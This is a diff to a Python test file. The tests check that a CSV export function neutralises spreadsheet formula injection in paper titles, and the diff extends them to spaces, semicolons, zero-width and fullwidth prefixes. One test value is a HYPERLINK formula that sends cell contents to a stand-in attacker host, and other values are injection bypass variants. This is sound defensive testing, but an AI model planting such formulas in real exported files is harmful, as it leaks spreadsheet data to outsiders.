@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 from hypothesis import given
@@ -13,18 +14,34 @@ from controller.files import bare_cell, words_of_cell
 from controller.paper.readings import COLUMNS, csv_rows, csv_text
 
 
-@given(st.text("='+-@\t\r0.a", max_size=6) | st.text(max_size=20))
+@given(st.text("='+-@\t\r\n ;0.a\uff1d", max_size=8) | st.text(max_size=20))
 def test_words_come_back_unchanged(words: str) -> None:
     """Whatever a title says, its cell begins no formula unless it is a plain number, and gives the words again."""
     cell = bare_cell(words)
     assert words_of_cell(cell) == words
-    assert not cell.startswith(("=", "@", "\t", "\r"))
-    if cell.startswith(("+", "-")):
+    assert not cell.lstrip().startswith(("=", "@", "\uff1d"))
+    assert not cell.startswith(("\t", "\r", "\n"))
+    if cell.lstrip().startswith(("+", "-")):
         float(cell)
+    # where decimals have a comma, a semicolon parts cells, whatever is quoted
+    assert not any(part.lstrip(" \t").startswith(("=", "@", "\uff1d")) for part in re.split("[;\t]", cell)[1:])
 
 
 @pytest.mark.parametrize(
-    "name", ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1/3 paper", "'=a", "''", "-5", "@x"]
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "+1/3 paper",
+        "'=a",
+        "''",
+        "-5",
+        "@x",
+        " =a",
+        "\u200b=a",
+        "a;=b",
+        "a; '+b",
+        "a; -5 b",
+    ],
 )
 def test_a_papers_name_comes_back_from_its_readings(name: str) -> None:
     """A paper called like a formula is written as words, and read again under its own name."""
